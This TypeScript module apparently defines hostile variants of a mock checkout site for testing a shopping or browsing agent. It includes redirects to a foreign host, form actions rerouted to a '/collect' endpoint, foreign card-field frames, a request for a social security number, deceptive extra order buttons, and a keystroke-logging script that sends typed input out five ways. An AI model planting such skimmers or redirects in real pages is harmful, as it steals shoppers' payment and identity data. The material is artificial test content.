// A third party's host along the way, and requests for a card in the wrong place.
import type { Around, PageName, Variant } from './variant.ts'
import { atEnd, atTop, hasTotals, inHead } from './variant.ts'

/** The response redirects there. */
function ledAt(at: PageName): Variant {
  return { lead: (page, { foreignUrl }) => (page === at ? `${foreignUrl}/${page}` : null) }
}

function headAt(at: PageName, more: (around: Around) => string): Variant {
  return { draw: (html, page, around) => (page === at ? inHead(html, more(around)) : html) }
}

/** Sends everything that is typed into the page elsewhere at once, in every way that a page can. */
const SPY = ({ foreignUrl }: Around) => `<script>addEventListener('input', (event) => {
  const to = '${foreignUrl}/spy?it=' + encodeURIComponent(event.target.value)
  fetch(to, { mode: 'no-cors' }).catch(() => {})
  navigator.sendBeacon(to)
  new Image().src = to
  try { const socket = new WebSocket(to.replace('http', 'ws')); socket.onopen = () => socket.send('x') } catch {}
  const frame = document.createElement('iframe'); frame.src = to; frame.hidden = true
  document.body.append(frame)
}, true)</script>`

const CARD = `<label>Card number <input name="number" autocomplete="cc-number"></label>
<label>Expiry date (MM / YY) <input name="exp" autocomplete="cc-exp"></label>
<label>Security code <input name="cvc" autocomplete="cc-csc"></label>`

const FRAME = ({ foreignUrl }: Around) =>
  `<iframe title="Secure card fields" width="600" height="400" src="${foreignUrl}/fields"></iframe>`

export const HOSTS: Readonly<Record<string, Variant>> = {
  'led away at the product': ledAt('product'),
  'led away at the cart': ledAt('cart'),
  'led away at the address': ledAt('address'),
  'led away at the card': ledAt('payment'),
  'led away once the card is given': ledAt('review'),
  'led away by a tag at the card': headAt(
    'payment',
    ({ foreignUrl }) => `<meta http-equiv="refresh" content="0;url=${foreignUrl}/payment">`,
  ),
  'led away by a script at the card': headAt(
    'payment',
    ({ foreignUrl }) => `<script>location.href = '${foreignUrl}/payment'</script>`,
  ),
  'led away by a script once the card is given': headAt(
    'review',
    ({ foreignUrl }) => `<script>location.href = '${foreignUrl}/review'</script>`,
  ),
  'a form that is sent elsewhere': {
    draw: (html, page, { foreignUrl }) =>
      page === 'payment'
        ? html.replace('action="/checkout/payment"', `action="${foreignUrl}/collect"`)
        : html,
  },
  'a button that sends elsewhere': {
    draw: (html, page, { foreignUrl }) =>
      page === 'payment'
        ? html.replace(/<button>/, `<button formaction="${foreignUrl}/collect">`)
        : html,
  },
  'a page that spies on what is typed': {
    draw: (html, page, around) => (page === 'payment' ? inHead(html, SPY(around)) : html),
  },
  'card fields of somebody else': {
    draw: (html, page, around) =>
      page === 'payment'
        ? html.replace(/<h2>Card<\/h2>[\s\S]*?(?=\n<button>)/, () => FRAME(around))
        : html,
  },
  'card fields of somebody else beside our own': {
    draw: (html, page, around) => (page === 'payment' ? atTop(html, FRAME(around)) : html),
  },
  'a window that wants the card': headAt(
    'payment',
    ({ foreignUrl }) => `<script>addEventListener('click', () => open('${foreignUrl}/window'))
open('${foreignUrl}/window')</script>`,
  ),
  'a card asked for with the address': {
    draw: (html, page) =>
      page === 'address'
        ? html.replace('<h2>Shipping address</h2>', `${CARD}<h2>Shipping address</h2>`)
        : html,
  },
  'a bank of its own after the press': {
    pressed: { when: 'instead', to: ({ foreignUrl }) => `${foreignUrl}/bank` },
  },
  'led away after the charge': {
    pressed: { when: 'after', to: ({ foreignUrl }) => `${foreignUrl}/bank` },
  },
  'an endless way': { lead: (page) => (page === 'cart' ? '/cart' : null) },
  'a decline after the charge': { denies: true },
  'a membership of the same button': {
    draw: (html, page) =>
      hasTotals(page)
        ? atTop(
            html,
            '<form method="post" action="/checkout/membership"><button>Place order</button></form>',
          )
        : html,
  },
  'a second button that orders': {
    draw: (html, page) =>
      hasTotals(page)
        ? atEnd(
            html,
            '<form method="post" action="/checkout/membership"><button>Buy now</button></form>',
          )
        : html,
  },
  'a button that orders, too early': {
    draw: (html, page) =>
      ['cart', 'address', 'shipping'].includes(page)
        ? atEnd(
            html,
            '<form method="post" action="/checkout/membership"><button>Place order</button></form>',
          )
        : html,
  },
  'a number that nobody should tell': {
    draw: (html, page) =>
      page === 'address'
        ? html.replace(
            '<button>Continue',
            '<label>Social security number * <input name="ssn" required></label><button>Continue',
          )
        : html,
  },
  'a wall for customers': {
    draw: (html, page) =>
      page === 'address'
        ? html.replace(
            /<main>[\s\S]*<\/main>/,
            `<main><h1>Sign in</h1><form method="post" action="/login">
<label>Email <input type="email" name="email" required></label>
<label>Password <input type="password" name="password" required></label>
<button>Continue</button></form></main>`,
          )
        : html,
  },
}
